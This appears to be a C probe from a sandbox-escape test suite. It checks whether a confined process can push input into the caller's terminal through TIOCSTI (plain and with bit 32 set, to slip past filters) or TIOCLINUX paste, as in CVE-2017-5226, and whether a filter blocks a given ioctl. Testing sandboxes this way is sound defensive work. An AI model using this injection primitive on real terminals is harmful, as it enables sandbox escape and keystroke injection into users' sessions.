/* SPDX-License-Identifier: Apache-2.0 */
/* push_input.c - attacks the caller's terminal: type into it (CVE-2017-5226).
 *
 * terminal: on every descriptor and on /dev/tty, plain and with bit 32 set.
 * filter REQUEST: does the request reach the kernel at all?  Tried on a file that knows no such
 * request, so that the kernel's answer (ENOTTY) differs from a filter's.
 */
#include <fcntl.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>

#include "escape.h"

enum { TIOCLINUX_REQUEST = 0x541C };

static bool types_into(int fd)
{
	char byte = ' ', paste[2] = {3, 0};

	return syscall(SYS_ioctl, fd, (long)TIOCSTI, &byte) == 0 ||
	       syscall(SYS_ioctl, fd, with_bit_32(TIOCSTI), &byte) == 0 ||
	       syscall(SYS_ioctl, fd, (long)TIOCLINUX_REQUEST, paste) == 0;
}

static void by_terminal(int argc, char **argv)
{
	(void)argc;
	(void)argv;
	tried("TIOCSTI on 0..255 and /dev/tty");
	(void)open("/dev/tty", O_RDWR | O_CLOEXEC);
	for (int fd = 0; fd < 256; fd++)
		if (types_into(fd))
			escaped("typed into descriptor %d", fd);
	blocked("no terminal takes it: %m");
}

static void by_filter(int argc, char **argv)
{
	long request = (long)number(need_arg(argc, argv, 2, "request"));
	char byte = ' ';
	int fd = open("/dev/null", O_RDWR | O_CLOEXEC);

	if (argc > 3)
		request = with_bit_32(request);
	tried("ioctl %#lx", request);
	if (fd < 0)
		cannot("/dev/null: %m");
	end_by_reach(syscall(SYS_ioctl, fd, request, &byte), "ioctl");
}

static const struct way ways[] = {
	{"terminal", by_terminal}, /* for real */
	{"filter", by_filter},     /* the rule alone */
};

int main(int argc, char **argv)
{
	TAKE_WAY(ways, argc, argv);
}
